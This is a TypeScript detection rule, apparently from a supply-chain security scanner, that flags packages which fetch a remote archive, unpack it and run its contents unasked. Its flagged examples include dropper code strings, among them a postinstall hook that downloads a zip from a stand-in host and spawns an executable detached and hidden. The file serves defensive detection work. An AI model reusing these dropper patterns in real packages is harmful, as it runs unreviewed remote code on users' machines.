import { isUnseen } from '../src/define/commands.js';
import { partsOf } from '../src/define/parts.js';
import { isSameVariable } from '../src/define/variables.js';
import { waysTo } from '../src/define/ways.js';
import { defineRule, spelling, step, stepsOf } from '../src/define.js';
import type { AnyNode, Call, FileContext, Label } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Fetches an archive, and runs what was in it',
    why: 'What is in an archive of somebody’s server was never published, and nobody sees it until it runs. Installers of programs unpack archives too, and wait for what they start; tools unpack templates, and run them when they are told to.',
    behaviour: 'execution',
    messages: {
      runs: 'Fetches an archive with {source}, and runs what was in it with {sink}, unasked',
    },
    bits: { runs: 13 },
  },
  examples: {
    flags: [
      {
        title: 'code is unpacked among temporary files, and loaded',
        code: `const { pipeline } = require('stream/promises'), tar = require('tar'), os = require('os');\n(async () => {\n  const answer = await fetch('https://dl.castle.invalid/p.tgz');\n  await pipeline(answer.body, tar.x({ cwd: os.tmpdir() }));\n  require(os.tmpdir() + '/package/main.js');\n})();\nmodule.exports = {};`,
      },
      {
        title: 'a program is, and started out of sight',
        files: {
          'package.json': '{"name":"a","version":"1.0.0","scripts":{"postinstall":"node i.js"}}',
          'i.js': `const Zip = require('adm-zip'), https = require('https'), os = require('os'), path = require('path');\nconst to = path.join(os.tmpdir(), '.c');\nhttps.get('https://dl.castle.invalid/p.zip', answer => {\n  const parts = [];\n  answer.on('data', part => parts.push(part));\n  answer.on('end', () => {\n    new Zip(Buffer.concat(parts)).extractAllTo(to, true);\n    require('child_process').spawn(path.join(to, 'up.exe'), [], { detached: true, stdio: 'ignore' });\n  });\n});`,
        },
      },
    ],
    passes: [
      {
        title: 'an installer unpacks a program, and asks it for its version',
        files: {
          'package.json':
            '{"name":"swiftcut","version":"1.0.0","description":"Installs swiftcut, which cuts films","homepage":"https://swiftcut.invalid","scripts":{"postinstall":"node i.js"}}',
          'i.js': `const { pipeline } = require('stream/promises'), tar = require('tar'), path = require('path'), cp = require('child_process');\nconst bin = path.join(__dirname, 'bin');\nfetch('https://swiftcut.invalid/1.0.0.tgz').then(async answer => {\n  await pipeline(answer.body, tar.x({ cwd: bin }));\n  cp.execFileSync(path.join(bin, 'swiftcut'), ['--version'], { stdio: 'inherit' });\n});`,
        },
      },
      {
        title: 'a template is unpacked where its user wants it, and its script run then',
        code: `const { pipeline } = require('stream/promises'), tar = require('tar'), path = require('path');\nexports.create = async (address, cwd) => {\n  const answer = await fetch(address);\n  await pipeline(answer.body, tar.x({ cwd }));\n  return require(path.join(cwd, 'setup.js'))();\n};`,
      },
      {
        title: 'what is unpacked is data',
        code: `const { pipeline } = require('stream/promises'), tar = require('tar');\nfetch('https://releases.invalid/words.tgz').then(answer => pipeline(answer.body, tar.x({ cwd: '/tmp/words' })));\nconst path = require('path');\nmodule.exports = path;`,
      },
    ],
  },
  file(context) {
    if (context.moment === 'test') return;
    const archives = unpackings(context);
    if (archives.length === 0) return;
    const runs = [...context.calls('process', 'load')];
    for (const { node, label, folder } of archives) {
      const run = runs.find(one => runsOutOf(context, one, folder) && (LOADS.test(one.name) || isUnseen(context, one)));
      if (!run || !(context.moment === 'install' || waysTo(context, run.node).isUnasked)) continue;
      context.report({
        messageId: 'runs',
        data: { source: label.detail, sink: run.name },
        chain: [
          ...stepsOf(label),
          step('transform', 'unpacks it', context.file, node),
          step('sink', `runs what was in it with ${run.name}`, context.file, run.node),
        ],
      });
      return;
    }
  },
});

const LOADS = /^(?:require|import|Module\._load)$/;

/** An archive that comes from another machine, and the folder that its files are put into. */
interface Unpacking {
  readonly node: AnyNode;
  readonly label: Label;
  readonly folder: AnyNode;
}

/** `tar.x({ cwd })`, `unzipper.Extract({ path })`: what an archive is piped into. */
const INTO = /(?:^|\.)(?:x|extract|Extract|unpack|extractor)$/;
const FOLDERS = ['cwd', 'C', 'path', 'dir', 'target'];
/** `new AdmZip(bytes).extractAllTo(folder)` */
const AT_ONCE = /\.extractAllTo(?:Async)?$/;

const UNPACKS = /\b(?:extractAllTo|extractAllToAsync|Extract|extract|unpack|tar(?:-fs|-stream)?)\b/;

/** Every archive that the file fetches and unpacks. */
function unpackings(context: FileContext): readonly Unpacking[] {
  if (!UNPACKS.test(context.file.text)) return [];
  return [...piped(context), ...atOnce(context)];
}

function piped(context: FileContext): readonly Unpacking[] {
  return context.named(/\.(?:pipe|pipeline)$/).flatMap(({ node, args, receiver }): readonly Unpacking[] => {
    const parts = [...(receiver ? [receiver] : []), ...args];
    const folder = parts.map(part => folderOf(context, part)).find(found => found !== undefined);
    const label = parts.flatMap(part => context.labelsOf(part)).find(({ kind }) => kind === 'remote');
    return folder && label ? [{ node, label, folder }] : [];
  });
}

/** The folder that a call says, which takes an archive apart. */
function folderOf({ file }: FileContext, part: AnyNode): AnyNode | undefined {
  if (part.type !== 'CallExpression') return undefined;
  if (!INTO.test(spelling(file, part.callee as AnyNode).slice(-40))) return undefined;
  const [options] = part.arguments as readonly AnyNode[];
  // `tar.extract(folder)` of tar-fs.
  if (options?.type !== 'ObjectExpression') return options;
  for (const property of options.properties)
    if (property.type === 'Property' && FOLDERS.includes(spelling(file, property.key as AnyNode)))
      return property.value as AnyNode;
  return undefined;
}

function atOnce(context: FileContext): readonly Unpacking[] {
  return context.nodes('CallExpression').flatMap((node): readonly Unpacking[] => {
    const { callee, arguments: args } = node as unknown as { callee: AnyNode; arguments: readonly AnyNode[] };
    const [folder] = args;
    if (callee.type !== 'MemberExpression' || !folder) return [];
    if (!AT_ONCE.test(spelling(context.file, callee).slice(-24))) return [];
    const label = context.labelsOf(callee.object as AnyNode).find(({ kind }) => kind === 'remote');
    return label ? [{ node, label, folder }] : [];
  });
}

/** Whether a call runs something out of a folder: by the same variable in front, or the same text. */
function runsOutOf(context: FileContext, { args: [first, words] }: Call, folder: AnyNode): boolean {
  const list = words?.type === 'ArrayExpression' ? (words.elements as readonly (AnyNode | null)[]) : [];
  return [first, ...list].some(part => part !== null && part !== undefined && isInside(context, part, folder));
}

function isInside(context: FileContext, path: AnyNode, folder: AnyNode): boolean {
  const joined = path.type === 'CallExpression' ? (path.arguments as readonly AnyNode[]) : [];
  if ([...partsOf(path), ...joined].some(part => isSameVariable(context, part, folder))) return true;
  const into = context.textsOf(folder).map(text => text.replace(/[\\/]{1,4}$/, ''));
  return context
    .textsOf(path)
    .some(text =>
      into.some(
        one => one.replaceAll('…', '').length > 2 && /^[\\/]/.test(text.slice(one.length)) && text.startsWith(one),
      ),
    );
}
